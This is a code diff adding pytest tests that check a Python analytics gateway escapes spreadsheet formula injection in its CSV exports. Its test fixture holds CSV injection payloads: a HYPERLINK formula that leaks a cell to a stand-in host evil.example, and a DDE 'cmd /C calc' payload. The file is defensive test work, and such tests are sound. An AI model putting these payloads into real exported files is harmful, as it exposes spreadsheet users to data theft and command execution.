@@ -16,7 +16,7 @@ from typing import Any
 import pytest
 from tests.gateway.running import RunningGateway
 
-from tokenomy.api.app import AnalyticsApi
+from tokenomy.api.app import AnalyticsApi, _csv
 from tokenomy.api.params import split_escaped
 from tokenomy.pricing import PriceCatalog
 from tokenomy.record import CallRecord, CostSource, Status, TokenUsage, ToolUse
@@ -339,3 +339,51 @@ def test_a_range_with_a_start_and_no_end_runs_to_today(api: RunningGateway) -> N
     assert values[:3] == [0, 0, 6] and set(values[3:]) <= {0}
     _, f, _ = _get(api, "/api/v1/failures?interval=day&since=2026-10-30")
     assert f["buckets"] == t["buckets"]
+
+
+HOSTILE = {
+    "project": '=HYPERLINK("https://evil.example/?leak="&A2,"Open")',
+    "user": "@SUM(1+1)",
+    "request_model": "+cmd|' /C calc'!A0",
+    "response_model": "+cmd|' /C calc'!A0",
+    "org": "-2+3",
+    "session_id": "\tx",
+    "api_key_id": "\r=1",
+}
+
+
+def test_csv_exports_never_start_a_text_cell_with_a_formula(db: Database) -> None:
+    """Names come from gateway headers and logs: a cell starting with = + - @ tab or CR gets
+    a leading ' so a spreadsheet shows it as text (OWASP CSV injection), column names too."""
+    write_records(db, [_call(0, **HOSTILE)])
+    with RunningGateway({}, None, api=AnalyticsApi(db, CATALOG)) as gw:
+        _, calls_csv, _ = _get(gw, "/api/v1/calls?format=csv")
+        exports = [
+            _get(gw, f"/api/v1/breakdown?by={by}&format=csv")[1]
+            for by in ("project", "user", "model", "org", "session", "key")
+        ]
+        _, series_csv, _ = _get(
+            gw, "/api/v1/timeseries?interval=day&metric=calls&group_by=project&format=csv"
+        )
+    row = next(csv.DictReader(io.StringIO(calls_csv)))
+    for field in ("project", "user", "request_model", "org"):
+        assert row[field] == "'" + HOSTILE[field]
+    keys = [next(csv.DictReader(io.StringIO(text)))["key"] for text in exports]
+    assert keys == ["'" + HOSTILE[f] for f in ("project", "user", "request_model", "org")] + [
+        "'\tx",
+        "'\r=1",
+    ]
+    header = next(csv.reader(io.StringIO(series_csv)))
+    assert header == ["bucket", "'" + HOSTILE["project"]]
+    cells = [
+        c
+        for text in [calls_csv, series_csv, *exports]
+        for r in csv.reader(io.StringIO(text))
+        for c in r
+    ]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+
+
+def test_csv_keeps_numbers_negative_ones_too() -> None:
+    text = _csv([{"key": "-x", "delta_usd": -1.5, "calls": -2, "note": "ok"}]).decode()
+    assert text.splitlines() == ["key,delta_usd,calls,note", "'-x,-1.5,-2,ok"]
